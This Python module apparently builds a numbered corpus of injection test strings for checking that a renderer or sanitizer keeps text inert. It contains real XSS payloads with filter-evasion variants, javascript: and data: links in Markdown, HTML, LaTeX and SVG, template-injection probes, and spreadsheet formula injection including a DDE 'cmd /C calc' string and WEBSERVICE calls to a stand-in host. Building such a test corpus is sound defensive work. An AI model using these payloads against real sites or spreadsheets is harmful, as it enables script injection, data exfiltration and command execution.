"""Texts that are made to run, to fetch or to become a link wherever they are taken for anything but text. Each carries its number.

A family of payloads for each way of being taken: markup, Markdown, mathematics, templates, styles, formulas, addresses. Made from the lists
below, so that a new trick is one line.
"""

from collections.abc import Iterator, Sequence
from itertools import product

ELSEWHERE = "payload.invalid"
"""A host that there is not: whatever asks for it is seen."""
RAN = "ran_here"
"""What a payload calls when it runs."""

_RUNS = (f"{RAN}(§)", f"fetch('//{ELSEWHERE}/§')", f"{RAN}`§`", f"top.{RAN}(§)")
_EVENTS = (
    "<img src=x onerror={run}>", "<img src='x' onerror=\"{run}\">", "<svg onload={run}>", "<svg/onload={run}>", "<body onload={run}>",
    "<details open ontoggle={run}>x</details>", "<video><source onerror={run}></video>", "<input autofocus onfocus={run}>",
    "<marquee onstart={run}>x</marquee>", "<select autofocus onfocus={run}>", "<audio src=x onerror={run}>", "<p onmouseover={run}>point here</p>",
    "\"><img src=x onerror={run}>", "'><svg onload={run}>", "</title><svg onload={run}>", "</textarea><img src=x onerror={run}>",
    "</script><script>{run}</script>", "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><script>{run}</script></svg>", "<template><script>{run}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\"></noscript>", "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>", "<form action='javascript:{run}'><button autofocus>x</button></form>", "<isindex action=javascript:{run}>",
    "&lt;img src=x onerror={run}&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E", "<img src=x onerror\n={run}>", "<<script>{run}//<</script>", "<a onclick={run}>x</a>",
)
_TARGETS = (
    f"javascript:{RAN}(§)", f"JaVaScRiPt:{RAN}(§)", f"java\tscript:{RAN}(§)", f"javascript&colon;{RAN}(§)", f"vbscript:{RAN}(§)",
    f"data:text/html,<script>{RAN}(§)</script>", f"data:text/html;base64,cmFuX2hlcmUoMSk=#§{ELSEWHERE}", f"https://{ELSEWHERE}/§",
    f"//{ELSEWHERE}/§", f"http://{ELSEWHERE}/§?a=b",
)
_LINKS = (
    "[press]({target})", "![picture]({target})", "[press][one]\n\n[one]: {target}", "<{target}>", "<a href='{target}'>press</a>",
    "<a href={target}>press</a>", "$$\\href{{{target}}}{{press}}$$", "$\\href{{{target}}}{{press}}$", "\\(\\href{{{target}}}{{press}}\\)",
    "<svg><a xlink:href='{target}'><text>press</text></a></svg>", "<img src='{target}'>", "<iframe src='{target}'></iframe>",
    "<link rel=stylesheet href='{target}'>", "<base href='{target}'>", "<meta http-equiv=refresh content='0;url={target}'>",
    ":material/home: [press]({target})", "**[press]({target})**", "| a |\n|---|\n| [press]({target}) |",
)
_OTHERS = (
    f"https://{ELSEWHERE}/§", f"www.{ELSEWHERE}/§", f"http://www.{ELSEWHERE}/§", f"somebody@{ELSEWHERE}", f"mailto:somebody@{ELSEWHERE}",
    f"<style>@import '//{ELSEWHERE}/§';</style>", f"<div style=\"background:url(//{ELSEWHERE}/§)\">x</div>",
    f"<p style='width:expression({RAN}(§))'>x</p>",
    f"{{{{constructor.constructor('{RAN}(§)')()}}}}", "{{7*7}} §", "${7*7} §",
    "#{7*7} §", "<%= 7*7 %> §",
    f"${{{RAN}(§)}}", f"=HYPERLINK(\"https://{ELSEWHERE}/§\",\"press\")", f"=WEBSERVICE(\"https://{ELSEWHERE}/§\")", "+cmd|' /C calc'!A0 §",
    "@SUM(1+1) §", "-2+3+cmd|' /C calc'!A0 §", f"\t=HYPERLINK(\"https://{ELSEWHERE}/§\")", f"ftp://{ELSEWHERE}/§",
    f"$$\\require{{html}}\\class{{x}}{{\\href{{javascript:{RAN}(§)}}{{x}}}}$$", f"$\\url{{javascript:{RAN}(§)}}$",
    f"$\\includegraphics{{https://{ELSEWHERE}/§.png}}$", f"<b>bold</b> <a href=\"https://{ELSEWHERE}/§\">in a label</a>",
    "```html\n<script>x</script>\n``` §", "~~~\n<img src=x>\n~~~ §", ":red[red] :blue-background[x] §", "# heading §", "- [ ] task §",
)


def payloads() -> tuple[str, ...]:
    """Every payload, in a fixed order with the kinds mixed, each with its own number in it."""
    every = [*_mixed([list(_of_events()), list(_of_links()), list(_OTHERS)])]
    return tuple(text.replace("§", str(number)) if "§" in text else f"{text} {number}" for number, text in enumerate(every))


def _of_events() -> Iterator[str]:
    for place, event in enumerate(_EVENTS):
        yield from (event.replace("{run}", _RUNS[(place + step) % len(_RUNS)]) for step in range(3))


def _of_links() -> Iterator[str]:
    yield from (link.format(target=target) for link, target in product(_LINKS, _TARGETS))


def _mixed(kinds: Sequence[list[str]]) -> Iterator[str]:
    """In turn from each, so that any beginning of the list holds something of every kind."""
    longest = max(len(kind) for kind in kinds)
    for place in range(longest):
        for kind in kinds:
            number = place * len(kind) // longest
            if place == 0 or number != (place - 1) * len(kind) // longest:
                yield kind[number]
